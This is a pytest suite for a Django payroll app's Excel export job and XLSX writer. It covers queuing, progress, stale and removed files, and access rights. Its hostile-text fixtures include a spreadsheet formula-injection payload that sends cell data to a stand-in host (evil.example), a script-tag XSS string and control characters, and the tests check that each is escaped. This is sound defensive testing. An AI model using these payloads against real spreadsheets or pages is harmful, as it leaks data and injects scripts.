"""The Excel export as a job (states, progress, finance only, stale files) and the streamed writer (escaping of
hostile text, exact amounts, a package openpyxl and an XML parser both accept)."""

import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from lxml import etree

from payroll import exports, services, tasks
from payroll.choices import ComponentKind, ExportStatus
from payroll.engine import ComponentSpec
from payroll.exports import export_run, xml_number, xml_text
from payroll.models import PayrollExport, Payslip, PayslipLine

from ..factories import UserFactory
from .conftest import MONTH, run_month

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def computed(sales_employee):
    sales_employee(base="8000.00")
    sales_employee(base="12345.67")
    return run_month()


@pytest.fixture
def large(settings):
    """Every run counts as large: the export goes to the worker."""
    settings.PAYROLL_EXPORT_INLINE_MAX = 0


def _workbook(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


# --- The job ---------------------------------------------------------------------------------------------------------


def test_a_small_run_is_written_at_once(computed, finance):
    job = services.request_export(run=computed, user=finance.user)
    assert job.status == ExportStatus.DONE and job.done == job.total == computed.payslips.count() == 4
    assert job.file.name.startswith("payroll/exports/") and job.finished_at is not None
    with job.file.open("rb") as handle:
        assert "Payslips" in _workbook(handle.read()).sheetnames


def test_a_large_run_is_queued_then_written_with_progress(
    computed, finance, large, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 1)
    seen = []
    original = services.write_export

    def watching(*, job_id):
        seen.append(PayrollExport.objects.get(pk=job_id).status)  # what the worker finds
        return original(job_id=job_id)

    monkeypatch.setattr(services, "write_export", watching)
    progress_seen = []
    real_export_run = exports.export_run

    def export_spy(*, run, path, progress):
        def report(done, total):
            progress(done, total)
            job = PayrollExport.objects.get(run=run)  # what a polling page reads
            progress_seen.append((job.status, job.done, job.total))

        return real_export_run(run=run, path=path, progress=report)

    monkeypatch.setattr(exports, "export_run", export_spy)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = services.request_export(run=computed, user=finance.user)
    assert job.status == ExportStatus.QUEUED and job.total == 4 and not job.file
    assert len(callbacks) == 1  # one dispatch, after the commit
    callbacks[0]()  # the (eager) worker runs the task
    job.refresh_from_db()
    assert seen == [ExportStatus.QUEUED]
    assert progress_seen == [("running", done, 4) for done in (1, 2, 3, 4, 4)]  # every payslip, then the end
    assert job.status == ExportStatus.DONE and job.done == 4 and job.file
    name = job.file.name
    assert tasks.write_payroll_export(job.pk) == ExportStatus.DONE  # a second delivery leaves it alone
    job.refresh_from_db()
    assert job.file.name == name


def test_asking_again_while_one_is_open_returns_it_and_a_dead_one_is_replaced(
    computed, finance, large, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False):
        first = services.request_export(run=computed, user=finance.user)
        again = services.request_export(run=computed, user=finance.user)
    assert again.pk == first.pk and PayrollExport.objects.count() == 1
    PayrollExport.objects.filter(pk=first.pk).update(
        status=ExportStatus.RUNNING, heartbeat_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    )
    with django_capture_on_commit_callbacks(execute=False):
        fresh = services.request_export(run=computed, user=finance.user)
    first.refresh_from_db()
    assert fresh.pk != first.pk
    assert first.status == ExportStatus.FAILED and "replaced" in first.error
    assert tasks.write_payroll_export(first.pk) == ExportStatus.FAILED  # its late delivery leaves it given up
    assert tasks.write_payroll_export(fresh.pk) == ExportStatus.DONE


def test_a_failed_export_is_recorded_and_can_be_written_again(computed, finance, large, monkeypatch):
    job = services.request_export(run=computed, user=finance.user)  # not run: on_commit is not executed here
    original = exports.export_run

    def broken(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "export_run", broken)
    with pytest.raises(OSError):
        tasks.write_payroll_export(job.pk)
    job.refresh_from_db()
    assert job.status == ExportStatus.FAILED and job.error == "disk full" and not job.file
    monkeypatch.setattr(exports, "export_run", original)
    assert tasks.write_payroll_export(job.pk) == ExportStatus.DONE  # a redelivery writes it again


def test_a_failure_of_a_small_run_shows_on_the_page(client_as, computed, finance, monkeypatch):
    def broken(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "export_run", broken)
    response = client_as(finance).post(reverse("payroll:run-export", args=["2026-03"]), follow=True)
    assert "The export failed: disk full" in response.content.decode()
    assert PayrollExport.objects.get().status == ExportStatus.FAILED


def test_a_rerun_makes_the_file_stale(client_as, api_as, computed, finance):
    job = services.request_export(run=computed, user=finance.user)
    run_month()  # computed again: attempt + 1
    job.refresh_from_db()
    assert not job.is_current
    page = client_as(finance).get(reverse("payroll:export-download", args=[job.pk]), follow=True)
    assert "computed again" in page.content.decode()
    assert api_as(finance).get(f"/api/payroll/exports/{job.pk}/download/").status_code == 409
    assert api_as(finance).get(f"/api/payroll/exports/{job.pk}/").json()["download_url"] is None


def test_old_and_stale_files_are_removed_and_the_record_stays(client_as, api_as, computed, finance, settings):
    settings.PAYROLL_EXPORT_KEEP_DAYS = 7
    old = services.request_export(run=computed, user=finance.user)
    PayrollExport.objects.filter(pk=old.pk).update(finished_at=old.finished_at - datetime.timedelta(days=8))
    kept = services.request_export(run=computed, user=finance.user)
    storage, old_name = old.file.storage, old.file.name
    assert storage.exists(old_name) and storage.exists(kept.file.name)

    assert tasks.remove_old_export_files() == 1
    old.refresh_from_db()
    assert old.status == ExportStatus.REMOVED and not old.file and old.requested_by == finance.user
    assert not storage.exists(old_name)
    assert storage.exists(kept.file.name)
    assert tasks.remove_old_export_files() == 0  # nothing more to do: safe to run again

    page = client_as(finance).get(reverse("payroll:export-download", args=[old.pk]), follow=True).content.decode()
    assert "This file was removed: an export is kept 7 days" in page
    api = api_as(finance)
    answer = api.get(f"/api/payroll/exports/{old.pk}/download/")
    assert answer.status_code == 409 and "kept 7 days" in answer.json()["detail"]
    assert api.get(f"/api/payroll/exports/{old.pk}/").json()["download_url"] is None
    assert [row["id"] for row in api.get("/api/payroll/exports/?status=removed").json()["results"]] == [old.pk]
    run_page = client_as(finance).get(reverse("payroll:run-detail", args=["2026-03"])).content.decode()
    assert 'data-testid="export-removed"' in run_page

    run_month()  # computed again: the kept file is stale now, and goes at once
    assert tasks.remove_old_export_files() == 1
    assert not storage.exists(kept.file.name)
    assert PayrollExport.objects.get(pk=kept.pk).status == ExportStatus.REMOVED


def test_removing_files_leaves_open_and_failed_exports_alone(computed, finance, large, settings):
    settings.PAYROLL_EXPORT_KEEP_DAYS = 1
    queued = services.request_export(run=computed, user=finance.user)
    PayrollExport.objects.filter(pk=queued.pk).update(created_at=queued.created_at - datetime.timedelta(days=30))
    assert tasks.remove_old_export_files() == 0
    assert PayrollExport.objects.get(pk=queued.pk).status == ExportStatus.QUEUED


def test_a_job_for_an_older_computation_is_not_written(computed, finance, large):
    job = services.request_export(run=computed, user=finance.user)
    run_month()
    assert tasks.write_payroll_export(job.pk) == ExportStatus.FAILED
    job.refresh_from_db()
    assert "computed again" in job.error and not job.file


def test_a_run_that_is_not_computed_cannot_be_exported(api_as, client_as, sales_employee, finance):
    sales_employee()
    run = services.start_run(month=MONTH, user=None, queue=False)  # running, nothing computed yet
    response = api_as(finance).post(f"/api/payroll/runs/{run.pk}/export/")
    assert response.status_code == 409 and "computed" in response.json()["detail"]
    page = client_as(finance).post(reverse("payroll:run-export", args=["2026-03"]), follow=True)
    assert "Only a computed payroll can be exported." in page.content.decode()
    assert not PayrollExport.objects.exists()


def test_the_page_shows_progress_then_the_link(client_as, computed, finance, manager, large):
    client = client_as(finance)
    response = client.post(reverse("payroll:run-export", args=["2026-03"]))
    assert response.status_code == 302 and response.url.endswith("/payroll/runs/2026-03/#exports")
    job = PayrollExport.objects.get()
    assert job.status == ExportStatus.QUEUED  # the test client does not run on_commit: no worker yet
    page = client.get(computed.get_absolute_url()).content.decode()
    assert 'data-testid="export-progress"' in page and "hx-get" in page and "(0 / 4)" in page
    tasks.write_payroll_export(job.pk)
    fragment = client.get(reverse("payroll:export-progress", args=[job.pk])).content.decode()
    assert "hx-get" not in fragment  # finished: the polling stops
    assert reverse("payroll:export-download", args=[job.pk]) in fragment
    download = client.get(reverse("payroll:export-download", args=[job.pk]))
    assert download.status_code == 200 and download["Content-Type"] == XLSX
    assert "Bank transfer" in _workbook(b"".join(download.streaming_content)).sheetnames
    # Managers see the run, but neither the exports nor the file (full bank accounts).
    assert 'data-testid="exports"' not in client_as(manager).get(computed.get_absolute_url()).content.decode()
    assert client_as(manager).get(reverse("payroll:export-download", args=[job.pk])).url == reverse("home")


def test_api_start_status_and_download(api_as, computed, large):
    # Logins without an employee record: a person hired after the computation would make the run stale (its export
    # then waits for the recomputation, tests/payroll/test_staleness.py).
    finance, manager, staff = (UserFactory(groups=[group]) for group in ("Finance", "Manager", "Staff"))
    client = api_as(finance)
    response = client.post(f"/api/payroll/runs/{computed.pk}/export/")
    assert response.status_code == 202, response.json()
    body = response.json()
    assert body["status"] == "queued" and body["month"] == "2026-03" and body["download_url"] is None
    assert client.get(f"/api/payroll/exports/{body['id']}/download/").status_code == 409  # not written yet
    tasks.write_payroll_export(body["id"])
    status = client.get(f"/api/payroll/exports/{body['id']}/").json()
    assert status["status"] == "done" and status["done"] == status["total"] == 4 and status["percent"] == 100
    assert status["download_url"] == f"/api/payroll/exports/{body['id']}/download/"
    download = client.get(status["download_url"])
    assert download.status_code == 200 and download["Content-Type"] == XLSX
    workbook = _workbook(b"".join(download.streaming_content))
    bank = workbook["Bank transfer"]
    paid = sum(Decimal(str(bank.cell(row, 5).value)) for row in range(2, bank.max_row + 1))
    assert paid == sum(slip.net_pay for slip in Payslip.objects.filter(run=computed))
    assert [row["id"] for row in client.get("/api/payroll/exports/?month=2026-03&status=done").json()["results"]] == [
        body["id"]
    ]
    for person in (manager, staff):
        other = api_as(person)
        assert other.post(f"/api/payroll/runs/{computed.pk}/export/").status_code == 403
        assert other.get(f"/api/payroll/exports/{body['id']}/").status_code == 403
        assert other.get(f"/api/payroll/exports/{body['id']}/download/").status_code == 403


def test_anonymous_gets_no_export(api, computed, finance):
    job = services.request_export(run=computed, user=finance.user)
    assert api.get(f"/api/payroll/exports/{job.pk}/download/").status_code in (401, 403)
    assert api.post(f"/api/payroll/runs/{computed.pk}/export/").status_code in (401, 403)


# --- The writer ------------------------------------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _hostile_world(sales_employee, payroll_world):
    """Employees, a department, a role and a component whose texts try formulas, markup and control characters."""
    department = payroll_world["department"]
    # In both languages: the workbook shows the one of the language it is written in.
    department.name_zh = department.name_en = "<script>alert(1)</script> & Co"
    department.save()
    role = payroll_world["role"]
    role.title_zh = role.title_en = "+SUM(1)\x07"
    role.save()
    services.save_structure_version(
        structure=payroll_world["structure"],
        effective_from=datetime.date(2026, 2, 1),
        components=[
            ComponentSpec("base_pay", 'Base <b>pay</b> & "more"', ComponentKind.EARNING, "base"),
            ComponentSpec("extra", "@bonus\x1f", ComponentKind.EARNING, "0.015 * base"),
        ],
    )
    return [
        sales_employee(base="8000.00", full_name=HOSTILE_NAME),
        sales_employee(base="9000.10", full_name="\x01\x02-1+2"),  # a formula once the controls are gone
        sales_employee(base="7000.00", full_name="  O'Brien ]]> \u4e2d\u6587 \U0001f600  "),
    ]


def test_hostile_text_is_escaped_neutralised_and_never_a_formula(sales_employee, payroll_world, tmp_path):
    people = _hostile_world(sales_employee, payroll_world)
    run = run_month()
    path = export_run(run=run, path=str(tmp_path / "hostile.xlsx"))

    # Every part is well-formed XML; the markup is text, never elements.
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(package.read(name))
        payslips_xml = package.read("xl/worksheets/sheet2.xml").decode()
    assert "<script>" not in payslips_xml and "&lt;script&gt;" in payslips_xml
    assert "\x01" not in payslips_xml and "\x07" not in payslips_xml

    for read_only in (False, True):
        workbook = openpyxl.load_workbook(path, read_only=read_only)
        sheet = workbook["Payslips"]
        rows = list(sheet.iter_rows(values_only=True))
        header = rows[0]
        assert 'Base <b>pay</b> & "more"' in header and "@bonus" in header
        by_number = {row[0]: row for row in rows[1:-1]}
        assert by_number[people[0].employee_number][1] == HOSTILE_NAME
        assert by_number[people[1].employee_number][1] == "-1+2"
        assert by_number[people[2].employee_number][1] == "  O'Brien ]]> 中文 \U0001f600  "  # spaces kept
        ours = [by_number[person.employee_number] for person in people]
        assert {row[2] for row in ours} == {"<script>alert(1)</script> & Co"}
        assert {row[3] for row in ours} == {"+SUM(1)"}
    # Only the totals are formulas; every text cell is a string.
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert cell.value.startswith("=SUM(") and cell.row == sheet.max_row
    # Every text cell, headers and names alike, is marked text with the quote prefix: it stays text when edited.
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "s" and cell.value:
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    strips = workbook["Payslip strips"]
    assert strips.cell(2, 2).data_type == "s" and strips.cell(1, 6).value == 'Base <b>pay</b> & "more"'


def test_amounts_are_the_exact_decimals(sales_employee, payroll_world, tmp_path):
    sales_employee(base="9000.10")
    sales_employee(base="12345.67")
    run = run_month()
    path = export_run(run=run, path=str(tmp_path / "exact.xlsx"))
    with zipfile.ZipFile(path) as package:
        bank_xml = package.read("xl/worksheets/sheet3.xml").decode()
    for slip in Payslip.objects.filter(run=run):
        assert f"<v>{slip.net_pay}</v>" in bank_xml  # the Decimal's own text, e.g. 7803.55, never a float
    sheet = openpyxl.load_workbook(path)["Payslips"]
    assert sheet.cell(2, 6).number_format == "#,##0.00;-#,##0.00" and sheet.cell(2, 5).number_format == "0.0"
    assert sheet.cell(1, 1).font.b and sheet.cell(sheet.max_row, 6).font.b
    assert sheet.column_dimensions["A"].width == 10


def test_xml_cell_contents():
    assert xml_number(Decimal("1234.50")) == "<v>1234.50</v>"
    assert xml_number(Decimal("-0.01")) == "<v>-0.01</v>"
    assert xml_number(Decimal("1E+3")) == "<v>1000</v>"  # never an exponent
    assert xml_number(Decimal("1E-7")) == "<v>0.0000001</v>"
    assert xml_number(7) == "<v>7</v>"
    assert xml_number(None) == ""
    for bad in (Decimal("NaN"), Decimal("Infinity")):
        with pytest.raises(ValueError):
            xml_number(bad)
    for bad in ("12", 1.5, True):
        with pytest.raises(TypeError):
            xml_number(bad)
    assert xml_text("a < b & c > d") == "a &lt; b &amp; c &gt; d"
    assert xml_text("\x00=1+1") == "=1+1"  # its cell's style has the quote prefix
    assert xml_text("\ufffe\ud800ok\x0b") == "ok"
    assert xml_text("line\nbreak\tand tab") == "line\nbreak\tand tab"


def test_a_run_without_payslips_still_makes_a_valid_workbook(computed, tmp_path):
    PayslipLine.objects.filter(payslip__run=computed).delete()  # a ready run is not locked yet
    Payslip.objects.filter(run=computed).delete()
    path = export_run(run=computed, path=str(tmp_path / "empty.xlsx"))
    for read_only in (False, True):
        sheet = openpyxl.load_workbook(path, read_only=read_only)["Payslips"]
        rows = list(sheet.iter_rows(values_only=True))
        assert len(rows) == 2 and rows[1][0] == "Total"  # the header and the totals
    sheet = openpyxl.load_workbook(path)["Payslips"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.endswith("1")


def test_the_queries_do_not_grow_with_payslips(sales_employee, tmp_path):
    sales_employee()
    run = run_month()
    with CaptureQueriesContext(connection) as few:
        export_run(run=run, path=str(tmp_path / "few.xlsx"))
    for _ in range(5):
        sales_employee()
    run = run_month()
    with CaptureQueriesContext(connection) as more:
        export_run(run=run, path=str(tmp_path / "more.xlsx"))
    assert len(more) == len(few)
